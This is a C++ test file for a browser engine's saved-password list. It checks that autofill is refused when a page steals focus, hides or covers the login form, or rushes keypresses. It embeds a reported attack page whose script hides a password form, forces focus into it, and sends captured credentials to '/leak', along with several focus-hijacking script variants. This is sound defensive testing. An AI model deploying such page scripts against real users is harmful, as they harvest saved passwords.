// Pages that try to get a saved password without the user's choosing it: by moving the
// focus themselves, by a sign-in form nobody can see, by a list placed where nobody sees
// it, and by keys pressed before the list can be read. The real engine, the test's own
// keyring.
#include <cmath>
#include <cstdio>
#include <functional>

#include "keyring_fixture.h"

namespace kv {
namespace {

using namespace std::chrono_literals;

// The abusing page of the report, as it was found: a form out of sight, a focus moved to
// it on every key, and whatever lands in it sent home.
constexpr const char* kReportedPage =
    "<form style=\"position:fixed;top:-400px;opacity:0\"><input id=u><input id=p "
    "type=password></form>"
    "<p>Use the Down key to move, and Enter to answer.</p>"
    "<script>"
    "document.addEventListener('keydown',()=>{ if(document.activeElement!==p) "
    "p.focus({preventScroll:true}) },true);"
    "setInterval(()=>{ if(p.value) "
    "fetch('/leak?'+encodeURIComponent(u.value+':'+p.value)) },100);"
    "</script>";

// A visible sign-in form beside a game, whose script (`move`) moves the focus to the
// password field while the user does something else.
std::string game_page(const std::string& move) {
  return "<title>Game</title>"
         "<form style='position:absolute;left:400px;top:20px'>"
         "<input id=u style='width:150px'><input id=p type=password style='width:150px'></form>"
         "<button id=play style='position:absolute;left:20px;top:300px;width:200px;"
         "height:60px'>Play</button>"
         "<input id=search style='position:absolute;left:20px;top:200px;width:200px'>"
         "<button id=next style='position:absolute;left:20px;top:240px'>Next</button>"
         "<label for=p style='position:absolute;left:20px;top:400px;width:200px;"
         "height:40px;display:block'>Click to win</label>"
         "<script>" +
         move + "</script>";
}

// A sign-in form at `form_style`, and a paragraph to click first, away from it.
std::string hidden_form_page(const std::string& form_style, const std::string& field_style = "",
                             const std::string& more = "") {
  return "<p id=away style='position:absolute;left:20px;top:500px'>Press Tab</p><form style='" +
         form_style + "'><input id=u style='" + field_style +
         "'><input id=p type=password style='" + field_style + "'></form>" + more;
}

struct Box {
  double x = 0, y = 0, width = 0, height = 0;
};

// The element's box in the view's pixels (the page's, scaled by its zoom).
Box box_of(test::EngineWindow& window, const std::string& element) {
  Box box;
  const std::string text = window.eval("(() => { const r = " + element +
                                       ".getBoundingClientRect(); return r.left + ' ' + r.top + "
                                       "' ' + r.width + ' ' + r.height; })()");
  std::sscanf(text.c_str(), "%lf %lf %lf %lf", &box.x, &box.y, &box.width, &box.height);
  const double zoom = webkit_web_view_get_zoom_level(window.view());
  return {box.x * zoom, box.y * zoom, box.width * zoom, box.height * zoom};
}

// Clicks the middle of the box, and waits until the page has had the click: the engine
// sends keys on without waiting for the mouse, and a user is never that quick.
void click_middle(test::EngineWindow& window, const Box& box) {
  // Counted in the page and in its frames.
  const auto releases = [&] {
    return window.eval(
        "(() => { let count = 0; for (const w of [window, ...Array.from(frames)]) {"
        " if (w.kvTestReleases === undefined) { w.kvTestReleases = 0;"
        " w.addEventListener('mouseup', () => ++w.kvTestReleases, true); }"
        " count += w.kvTestReleases; } return count; })()");
  };
  const std::string before = releases();
  test::click(*window.browser, box.x + box.width / 2, box.y + box.height / 2);
  EXPECT_TRUE(test::run_until([&] { return releases() != before; }));
}

void press_tab(test::EngineWindow& window, bool shift = false) {
  if (shift) {
    test::press_key(window.window, GDK_KEY_ISO_Left_Tab, GDK_SHIFT_MASK);
  } else {
    test::press_key(window.window, GDK_KEY_Tab);
  }
}

// What the abusing pages ask of the user: Down, Down, Enter; given slowly enough for a
// list, had it come, to be read. Whether a list came up on the way.
bool down_down_enter(test::EngineWindow& window) {
  test::press_key(window.window, GDK_KEY_Down);
  const bool shown = list_comes_up();
  if (shown) wait_until_list_readable();
  test::press_key(window.window, GDK_KEY_Down);
  test::press_key(window.window, GDK_KEY_Return);
  return shown;
}

GdkRectangle on_screen(GdkWindow* window, int width, int height) {
  GdkRectangle place{0, 0, width, height};
  gdk_window_get_origin(window, &place.x, &place.y);
  return place;
}

GdkRectangle list_on_screen() {
  Gtk::Window* list = shown_account_list();
  return on_screen(list->get_window()->gobj(), list->get_allocated_width(),
                   list->get_allocated_height());
}

GdkRectangle view_on_screen(test::EngineWindow& window) {
  GtkWidget* view = GTK_WIDGET(window.view());
  EXPECT_TRUE(gtk_widget_get_has_window(view));  // its origin is the view's own
  return on_screen(gtk_widget_get_window(view), gtk_widget_get_allocated_width(view),
                   gtk_widget_get_allocated_height(view));
}

bool inside(const GdkRectangle& inner, const GdkRectangle& outer) {
  return inner.x >= outer.x && inner.y >= outer.y &&
         inner.x + inner.width <= outer.x + outer.width &&
         inner.y + inner.height <= outer.y + outer.height;
}

// The shown list lies wholly on the screen's work area and in the page area, against the
// field's top or bottom edge, and across from some of its width.
void expect_list_beside(test::EngineWindow& window, const Box& field_in_view) {
  const GdkRectangle list = list_on_screen();
  const GdkRectangle view = view_on_screen(window);
  const double left = view.x + field_in_view.x;
  const double top = view.y + field_in_view.y;
  const double bottom = top + field_in_view.height;
  GdkRectangle work{};
  gdk_monitor_get_workarea(
      gdk_display_get_monitor_at_point(gdk_display_get_default(), list.x, list.y), &work);
  EXPECT_TRUE(inside(list, work)) << list.x << "," << list.y << " " << list.width << "x"
                                  << list.height;
  EXPECT_TRUE(inside(list, view)) << list.x << "," << list.y << " in " << view.x << "," << view.y
                                  << " " << view.width << "x" << view.height;
  const bool below = std::abs(list.y - bottom) <= 1.5;
  const bool above = std::abs(list.y + list.height - top) <= 1.5;
  EXPECT_TRUE(below || above) << list.y << " against " << top << ".." << bottom;
  EXPECT_LT(list.x, left + field_in_view.width);
  EXPECT_GT(list.x + list.width, left);
}

class HostileLoginPages : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(keyring().ready());
    add_login_pages(server);
    server.add_page("/leak", "");
    origin = "http://127.0.0.1:" + std::to_string(server.port());
    ASSERT_TRUE(keep({origin, origin, "alice"}));
  }

  bool leaked() {
    return test::run_until([&] { return server.requests("/leak") > 0; }, 2s);
  }

  test::LocalServer server;
  std::string origin;
};

TEST_F(HostileLoginPages, TheReportedPageGetsNoPasswordByKeysOrByItsOwnMousedown) {
  server.add_page("/keys.html", kReportedPage);
  // The same, with the focus moved from the page's own mousedown instead.
  std::string by_mouse = kReportedPage;
  const std::string on_key = "document.addEventListener('keydown',()=>{";
  by_mouse.replace(by_mouse.find(on_key), on_key.size(),
                   "document.addEventListener('mousedown',e=>{e.preventDefault();");
  server.add_page("/mouse.html", by_mouse);
  for (const char* path : {"/keys.html", "/mouse.html"}) {
    SCOPED_TRACE(path);
    test::EngineWindow window;
    ASSERT_TRUE(window.load_uri(server.url(path)));
    // "A click in the page", on its text.
    click_middle(window, box_of(window, "document.querySelector('p')"));
    EXPECT_FALSE(down_down_enter(window));
    EXPECT_FALSE(leaked());
    EXPECT_EQ(window.eval("p.value"), "");
  }
}

// The list is offered for the user's own press on a field, or for the user's Tab into it,
// never for a focus that the page moved, by script or through a label, whatever the user
// did just before.
TEST_F(HostileLoginPages, AFocusThatThePageMovesIsNeverTheUsersChoice) {
  struct Variant {
    const char* name;
    std::string move;
    std::function<void(test::EngineWindow&)> user;
  };
  const auto click = [](const char* id) {
    return [id](test::EngineWindow& window) { click_middle(window, box_of(window, id)); };
  };
  const auto click_then_tab = [](const char* id) {
    return [id](test::EngineWindow& window) {
      click_middle(window, box_of(window, id));
      press_tab(window);
    };
  };
  const std::vector<Variant> variants = {
      {"a key the page turns into a focus",
       "document.addEventListener('keydown', e => { if (e.key === 'ArrowDown') p.focus(); }, "
       "true);",
       [&](test::EngineWindow& window) {
         click_middle(window, box_of(window, "play"));
         test::press_key(window.window, GDK_KEY_Down);
       }},
      {"the page's mousedown",
       "document.addEventListener('mousedown', e => { if (e.target === play) { "
       "e.preventDefault(); p.focus(); } }, true);",
       click("play")},
      {"a Tab that the page takes",
       "document.addEventListener('keydown', e => { if (e.key === 'Tab') { e.preventDefault(); "
       "p.focus(); } }, true);",
       click_then_tab("search")},
      {"a Tab whose blur the page answers", "search.addEventListener('blur', () => p.focus());",
       click_then_tab("search")},
      {"a Tab followed by the page's focus",
       "document.addEventListener('keydown', e => { if (e.key === 'Tab') setTimeout(() => "
       "p.focus(), 50); }, true);",
       click_then_tab("search")},
      {"a label of the field", "", click("document.querySelector('label')")},
  };
  test::EngineWindow window;
  for (const Variant& variant : variants) {
    SCOPED_TRACE(variant.name);
    server.add_page("/game.html", game_page(variant.move));
    ASSERT_TRUE(window.load_uri(server.url("/game.html")));
    variant.user(window);
    EXPECT_FALSE(list_comes_up());
    EXPECT_EQ(window.eval("document.activeElement.id"), "p");  // the page did move it
  }

  // The user's own press, Tab and Shift+Tab on the same page.
  server.add_page("/game.html", game_page(""));
  ASSERT_TRUE(window.load_uri(server.url("/game.html")));
  click_middle(window, box_of(window, "u"));
  EXPECT_TRUE(list_comes_up());
  click_middle(window, box_of(window, "play"));
  ASSERT_TRUE(test::run_until([] { return shown_account_list() == nullptr; }));
  click_middle(window, box_of(window, "document.querySelector('label')"));
  press_tab(window);  // from the password field to Play: not a login field
  EXPECT_FALSE(list_comes_up());
  press_tab(window, true);
  EXPECT_TRUE(list_comes_up());
  EXPECT_EQ(window.eval("document.activeElement.id"), "p");
  press_tab(window, true);
  ASSERT_EQ(shown_account_list(), nullptr);  // any other key closes it
  EXPECT_TRUE(list_comes_up());
  press_tab(window);
  ASSERT_EQ(shown_account_list(), nullptr);
  EXPECT_TRUE(list_comes_up());
  EXPECT_EQ(window.eval("document.activeElement.id"), "p");
}

// No list for a field that a person cannot see; the same field, seen, gets one.
TEST_F(HostileLoginPages, AFieldOutOfSightGetsNoList) {
  const std::string visible = "position:absolute;left:20px;top:20px";
  server.add_page("/out-of-view.html", hidden_form_page("position:fixed;top:-400px"));
  server.add_page("/no-size.html",
                  hidden_form_page(visible, "width:0;height:0;padding:0;border:0"));
  server.add_page("/transparent.html", hidden_form_page(visible + ";opacity:0.1", "width:200px"));
  server.add_page("/covered.html",
                  hidden_form_page(visible, "width:200px",
                                   "<div style='position:absolute;left:0;top:0;width:600px;"
                                   "height:200px;background:white'>Welcome</div>"));
  server.add_page("/framed-covered.html",
                  "<p id=away style='position:absolute;left:20px;top:500px'>Press Tab</p>"
                  "<iframe src='/login.html' style='position:absolute;left:0;top:0;width:500px;"
                  "height:300px;border:0'></iframe>"
                  "<div style='position:absolute;left:0;top:0;width:500px;height:300px;"
                  "background:white'>Welcome</div>");
  server.add_page("/framed.html",
                  "<iframe id=f src='/login.html' style='position:absolute;left:30px;top:50px;"
                  "width:500px;height:300px;border:0'></iframe>");
  test::EngineWindow window;
  for (const char* page :
       {"/out-of-view.html", "/no-size.html", "/covered.html", "/framed-covered.html"}) {
    SCOPED_TRACE(page);
    ASSERT_TRUE(window.load_uri(server.url(page)));
    click_middle(window, box_of(window, "away"));
    press_tab(window);
    EXPECT_FALSE(list_comes_up());
    // The Tab did reach the field.
    EXPECT_EQ(window.eval("(document.activeElement.contentDocument || document)"
                          ".activeElement.id"),
              std::string(page).find("framed") != std::string::npos ? "user" : "u");
  }
  // Clicked where it lies, transparent; and moved under the pointer wherever it goes.
  ASSERT_TRUE(window.load_uri(server.url("/transparent.html")));
  click_middle(window, box_of(window, "u"));
  EXPECT_FALSE(list_comes_up());
  EXPECT_EQ(window.eval("document.activeElement.id"), "u");
  server.add_page("/follows.html",
                  hidden_form_page("position:absolute;opacity:0", "width:40px;height:20px",
                                   "<script>addEventListener('mousemove', e => {"
                                   " const form = document.forms[0];"
                                   " form.style.left = (e.clientX - 20) + 'px';"
                                   " form.style.top = (e.clientY - 10) + 'px'; });</script>"));
  ASSERT_TRUE(window.load_uri(server.url("/follows.html")));
  click_middle(window, {300, 300, 0, 0});
  EXPECT_FALSE(list_comes_up());
  EXPECT_EQ(window.eval("document.activeElement.id"), "u");

  // In a frame of the page's origin, in sight: offered, beside the field.
  const int frames = server.requests("/login.html");
  ASSERT_TRUE(window.load_uri(server.url("/framed.html")));
  ASSERT_TRUE(test::run_until([&] { return server.requests("/login.html") > frames; }));
  ASSERT_TRUE(test::run_until([&] {
    return window.eval("!!(f.contentDocument && f.contentDocument.forms[0])") == "true";
  }));
  const Box frame = box_of(window, "f");
  Box field = box_of(window, "f.contentDocument.getElementById('user')");
  field.x += frame.x;
  field.y += frame.y;
  click_middle(window, field);
  ASSERT_TRUE(list_comes_up());
  expect_list_beside(window, field);
}

// The list lies wholly on the screen and in the page area, beside its field, or not at all.
TEST_F(HostileLoginPages, TheListLiesOnTheScreenBesideItsFieldOrNowhere) {
  test::EngineWindow window;
  // The window's right edge on the screen's.
  GdkRectangle screen{};
  gdk_monitor_get_workarea(gdk_display_get_primary_monitor(gdk_display_get_default()), &screen);
  const int left = screen.x + screen.width - 800;
  window.window.move(left, screen.y + 100);
  ASSERT_TRUE(test::run_until([&] {
    int x = 0;
    int y = 0;
    window.window.get_window()->get_origin(x, y);
    return x == left;
  }));
  server.add_page("/right.html",
                  "<input id=u style='position:absolute;right:4px;top:100px;width:80px'>"
                  "<input id=p type=password style='position:absolute;right:4px;top:140px;"
                  "width:80px'>");
  ASSERT_TRUE(window.load_uri(server.url("/right.html")));
  Box field = box_of(window, "u");
  click_middle(window, field);
  ASSERT_TRUE(list_comes_up());
  expect_list_beside(window, field);

  // No room below: above.
  server.add_page("/bottom.html",
                  "<input id=u style='position:absolute;left:20px;bottom:4px;width:200px'>"
                  "<input id=p type=password style='position:absolute;left:240px;bottom:4px'>");
  ASSERT_TRUE(window.load_uri(server.url("/bottom.html")));
  field = box_of(window, "u");
  click_middle(window, field);
  ASSERT_TRUE(list_comes_up());
  expect_list_beside(window, field);

  // No room on either side of it: no list.
  server.add_page("/tall.html",
                  "<input id=u style='position:absolute;left:20px;top:4px;width:200px;"
                  "height:calc(100vh - 8px);box-sizing:border-box'>"
                  "<input id=p type=password style='position:absolute;left:240px;top:20px'>");
  ASSERT_TRUE(window.load_uri(server.url("/tall.html")));
  click_middle(window, box_of(window, "u"));
  EXPECT_FALSE(list_comes_up());

  // A zoomed page: the field is where the user sees it, and so is the list.
  webkit_web_view_set_zoom_level(window.view(), 1.5);
  ASSERT_TRUE(window.load_uri(server.url("/login.html")));
  field = box_of(window, "user");
  click_middle(window, field);
  ASSERT_TRUE(list_comes_up());
  expect_list_beside(window, field);
}

// Down and Enter at once pick nothing, and the page hears nothing of them; once the list
// has been on screen long enough to be read, Enter picks.
TEST_F(HostileLoginPages, RowsArePickedOnlyOnceTheListCanBeRead) {
  server.add_page("/login.html", login_page() +
                                     "<script>var keys = []; addEventListener('keydown', e => "
                                     "keys.push(e.key), true);</script>");
  test::EngineWindow window;
  ASSERT_TRUE(window.load_uri(server.url("/login.html")));
  click_element(window, "user");
  ASSERT_TRUE(list_comes_up());
  test::press_key(window.window, GDK_KEY_Down);
  test::press_key(window.window, GDK_KEY_Return);
  EXPECT_FALSE(test::run_until([&] { return server.requests("POST /seen") > 0; }, 1s));
  EXPECT_EQ(window.eval("user.value + pass.value"), "");
  EXPECT_EQ(window.eval("keys.join()"), "");
  ASSERT_NE(shown_account_list(), nullptr);

  wait_until_list_readable();
  test::press_key(window.window, GDK_KEY_Return);
  ASSERT_TRUE(test::run_until([&] { return server.requests("POST /seen") > 0; }));
  EXPECT_EQ(server.last_body("POST /seen"), std::string("alice:") + kPassword);
  EXPECT_EQ(window.eval("keys.join()"), "");
}

}  // namespace
}  // namespace kv
